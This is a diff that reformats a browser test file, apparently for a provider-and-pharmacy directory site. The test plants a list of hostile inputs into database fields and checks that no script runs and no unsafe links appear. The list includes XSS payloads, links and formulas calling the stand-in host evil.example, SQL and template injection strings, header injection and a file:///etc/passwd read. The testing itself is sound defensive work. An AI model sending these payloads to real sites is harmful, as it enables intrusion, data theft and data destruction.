@@ -18,58 +18,178 @@ pytestmark = pytest.mark.browser
 RUN = "window.pwned=1"
 PAYLOADS = [
     # tags and attributes
-    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", "<script src=//evil.example/x.js>", f'"><img src=x onerror={RUN}>', f"'><img src=x onerror={RUN}>",
-    f"<img src=x:x onerror={RUN} //", f'" autofocus onfocus={RUN} x="', f"' onmouseover='{RUN}", f"` onload=`{RUN}`", f"<body onload={RUN}>", f"<details open ontoggle={RUN}>",
-    f"<input autofocus onfocus={RUN}>", f"<video><source onerror={RUN}></video>", "<iframe srcdoc='<script>parent.pwned=1</script>'>", f"<object data=data:text/html,{RUN}>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example><button>x",
-    f"<a href=javascript:{RUN}>x</a>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"<!--><script>{RUN}</script>-->",
-    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", "<plaintext>", "<xmp>", f"<template><script>{RUN}</script>",
+    f"<script>{RUN}</script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    "<script src=//evil.example/x.js>",
+    f'"><img src=x onerror={RUN}>',
+    f"'><img src=x onerror={RUN}>",
+    f"<img src=x:x onerror={RUN} //",
+    f'" autofocus onfocus={RUN} x="',
+    f"' onmouseover='{RUN}",
+    f"` onload=`{RUN}`",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
+    f"<object data=data:text/html,{RUN}>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<form action=//evil.example><button>x",
+    f"<a href=javascript:{RUN}>x</a>",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"</style><script>{RUN}</script>",
+    f"<!--><script>{RUN}</script>-->",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    "<plaintext>",
+    "<xmp>",
+    f"<template><script>{RUN}</script>",
     # SVG and MathML
-    f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script>", f"<svg><animate onbegin={RUN} attributeName=x>", f"<math><mtext><img src=x onerror={RUN}>",
+    f"<svg/onload={RUN}>",
+    f"<svg><script>{RUN}</script>",
+    f"<svg><animate onbegin={RUN} attributeName=x>",
+    f"<math><mtext><img src=x onerror={RUN}>",
     # links
-    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"javascript://x.example/%0a{RUN}",
-    "https://user:secret@evil.example/", "//evil.example/x", "file:///etc/passwd", f"https://x.example/\" onclick=\"{RUN}",
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f"java\tscript:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    f"vbscript:{RUN}",
+    f"javascript://x.example/%0a{RUN}",
+    "https://user:secret@evil.example/",
+    "//evil.example/x",
+    "file:///etc/passwd",
+    f'https://x.example/" onclick="{RUN}',
     # templates, SQL, CSS
-    "{{ 7*7 }}", "{% raise %}", "${7*7}", "%(name)s %s %n", "'; DROP TABLE providers; --", "\" OR 1=1 --", "x{background:url(//evil.example)}", "expression(window.pwned=1)",
+    "{{ 7*7 }}",
+    "{% raise %}",
+    "${7*7}",
+    "%(name)s %s %n",
+    "'; DROP TABLE providers; --",
+    '" OR 1=1 --',
+    "x{background:url(//evil.example)}",
+    "expression(window.pwned=1)",
     # Unicode and entities
-    "\u202egnp.exe\u202c", "a\u2066b\u2069c", "zero\u200bwidth", f"\uff1cscript\uff1e{RUN}", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;img src=x onerror={RUN}&#62;",
+    "\u202egnp.exe\u202c",
+    "a\u2066b\u2069c",
+    "zero\u200bwidth",
+    f"\uff1cscript\uff1e{RUN}",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;img src=x onerror={RUN}&#62;",
     # what ends a value in a form for programs
-    f"</script><script>{RUN}</script>", "]]><x/>", "=HYPERLINK(\"https://evil.example\")", "line\r\nX-Injected: yes\nTEL:+15125550199",
-]  # fmt: skip
+    f"</script><script>{RUN}</script>",
+    "]]><x/>",
+    '=HYPERLINK("https://evil.example")',
+    "line\r\nX-Injected: yes\nTEL:+15125550199",
+]
 ENUMERATED = {
-    "kind", "evidence", "status", "telehealth", "accepts_new", "register_state", "what", "state", "reason", "relation", "id", "source", "sources", "listing", "run", "code", "part",
-    "region_code", "country_code", "first_seen", "last_confirmed", "first_read", "last_read", "at", "since", "started", "finished", "checked", "register_checked", "located_by",
-}  # fmt: skip
+    "kind",
+    "evidence",
+    "status",
+    "telehealth",
+    "accepts_new",
+    "register_state",
+    "what",
+    "state",
+    "reason",
+    "relation",
+    "id",
+    "source",
+    "sources",
+    "listing",
+    "run",
+    "code",
+    "part",
+    "region_code",
+    "country_code",
+    "first_seen",
+    "last_confirmed",
+    "first_read",
+    "last_read",
+    "at",
+    "since",
+    "started",
+    "finished",
+    "checked",
+    "register_checked",
+    "located_by",
+}
 """Columns that hold keys, words of a closed list, or moments: a build writes them itself."""
-TABLES = ("sources", "providers", "locations", "listings", "claims", "changes", "serves", "regions", "verifications", "attributions")
-PAGES = ["/", "/regions", "/regions/US", "/regions/US-OH", "/pharmacies", "/pharmacies/US", "/map", "/map/US", "/sources", "/changes", "/about", "/status", "/download", "/api",
-         "/visit?pick=1,2,3", "/questions", "/nowhere", "/provider/9999", "/de/"]  # fmt: skip
+TABLES = (
+    "sources",
+    "providers",
+    "locations",
+    "listings",
+    "claims",
+    "changes",
+    "serves",
+    "regions",
+    "verifications",
+    "attributions",
+)
+PAGES = [
+    "/",
+    "/regions",
+    "/regions/US",
+    "/regions/US-OH",
+    "/pharmacies",
+    "/pharmacies/US",
+    "/map",
+    "/map/US",
+    "/sources",
+    "/changes",
+    "/about",
+    "/status",
+    "/download",
+    "/api",
+    "/visit?pick=1,2,3",
+    "/questions",
+    "/nowhere",
+    "/provider/9999",
+    "/de/",
+]
 STOCK = ["/ldn", *(f"/ldn/{table}?_size=200" for table in TABLES), "/ldn/providers/1"]
 FORMS = ("json", "csv", "geojson", "jsonld", "fhir", "vcf")
 
 
 def plant(db: sqlite3.Connection) -> None:
     """Puts a payload into every free text field of every row, so that each payload is in each field somewhere."""
-    db.execute("INSERT INTO changes (run, at, source, provider, what, field, before, after) SELECT run_id, first_seen, 'harbour', id, 'changed', 'phone', 'x', 'y'"
-               " FROM providers, (SELECT id AS run_id FROM runs)")  # fmt: skip
+    db.execute(
+        "INSERT INTO changes (run, at, source, provider, what, field, before, after) SELECT run_id, first_seen, 'harbour', id, 'changed', 'phone', 'x', 'y'"
+        " FROM providers, (SELECT id AS run_id FROM runs)"
+    )
     db.execute("INSERT INTO verifications SELECT id, 'register', 'active', 'x', 1, 'x', first_seen, 'x' FROM providers")
     db.execute("INSERT INTO serves SELECT id, 'US-OH', 'x', 'US' FROM providers")
     db.execute("INSERT INTO attributions VALUES ('package', 'x', 'x', 'x', 'x', 'x')")
     for table in TABLES:
-        columns = [name for _, name, kind, *_ in db.execute(f"PRAGMA table_info({table})") if kind == "TEXT" and name not in ENUMERATED]
+        columns = [
+            name
+            for _, name, kind, *_ in db.execute(f"PRAGMA table_info({table})")
+            if kind == "TEXT" and name not in ENUMERATED
+        ]
         keys = [name for _, name, _, _, _, key in db.execute(f"PRAGMA table_info({table})") if key]
         rows = db.execute(f"SELECT {', '.join(keys)} FROM {table} ORDER BY 1").fetchall()
         for number, row in enumerate(rows):
             planted = [name for name in columns if name not in keys and (table, name) != ("claims", "field")]
-            values = [PAYLOADS[(number + place * (table != "providers")) % len(PAYLOADS)] for place, _ in enumerate(planted)]
+            values = [
+                PAYLOADS[(number + place * (table != "providers")) % len(PAYLOADS)] for place, _ in enumerate(planted)
+            ]
             stated = ", ".join(f"{name} = ?" for name in planted)
-            db.execute(f"UPDATE {table} SET {stated} WHERE {' AND '.join(f'{key} = ?' for key in keys)}", [*values, *row])
+            db.execute(
+                f"UPDATE {table} SET {stated} WHERE {' AND '.join(f'{key} = ?' for key in keys)}", [*values, *row]
+            )
     db.execute("INSERT INTO providers_fts (providers_fts) VALUES ('rebuild')")
 
 
 @pytest.fixture
 def address(tmp_path, people, publish, served):
-    hostile = [people[number % 3] | {"id": number + 1, "latitude": 39.0 + number / 100, "longitude": -83.0, "precision_km": 1.0} for number in range(len(PAYLOADS))]
+    hostile = [
+        people[number % 3]
+        | {"id": number + 1, "latitude": 39.0 + number / 100, "longitude": -83.0, "precision_km": 1.0}
+        for number in range(len(PAYLOADS))
+    ]
     return served(publish(tmp_path / "ldn.db", hostile, plant))
 
 
@@ -92,9 +212,14 @@ class _Watched:
         self.page.goto(self.origin + path, wait_until="load")
         assert self.page.evaluate("window.pwned") is None, path
         assert self.page.url.startswith(self.origin), path
-        links = self.page.evaluate("[...document.querySelectorAll('[href],[src],[action],[formaction]')].map(it => it.href || it.src || it.action)")
-        schemes = {urlsplit(str(link)).scheme for link in links if link} - {"data"} if path.startswith("/ldn") else {
-            urlsplit(str(link)).scheme for link in links if link and link != "data:,"}  # fmt: skip
+        links = self.page.evaluate(
+            "[...document.querySelectorAll('[href],[src],[action],[formaction]')].map(it => it.href || it.src || it.action)"
+        )
+        schemes = (
+            {urlsplit(str(link)).scheme for link in links if link} - {"data"}
+            if path.startswith("/ldn")
+            else {urlsplit(str(link)).scheme for link in links if link and link != "data:,"}
+        )
         assert schemes <= {"http", "https", "tel", "mailto"}, (path, schemes)
         assert path.startswith("/ldn") or not [link for link in links if "@" in urlsplit(str(link)).netloc], path
         handlers = "[...document.querySelectorAll('main *')].some(it => [...it.attributes].some(one => one.name.startsWith('on')))"
@@ -219,8 +344,10 @@ CONTROLS = "a\x00b\x08c\x1b[31md\ufffee\x7ff\u2028g"
 def test_characters_that_xml_and_address_books_do_not_have_break_nothing(tmp_path, people, publish, served):
     def plant_controls(db):
         db.execute("UPDATE providers SET name = ?, remark = ?, practice = ?, city = ?", [CONTROLS] * 4)
-        db.execute("INSERT INTO changes (at, source, provider, what, field, before, after) SELECT first_seen, 'harbour', id, 'changed', 'name', ?, ? FROM providers",
-                   [CONTROLS] * 2)  # fmt: skip
+        db.execute(
+            "INSERT INTO changes (at, source, provider, what, field, before, after) SELECT first_seen, 'harbour', id, 'changed', 'name', ?, ? FROM providers",
+            [CONTROLS] * 2,
+        )
 
     address = served(publish(tmp_path / "ldn.db", people, plant_controls))
     for path in ("/changes.atom", "/sitemap-1.xml"):
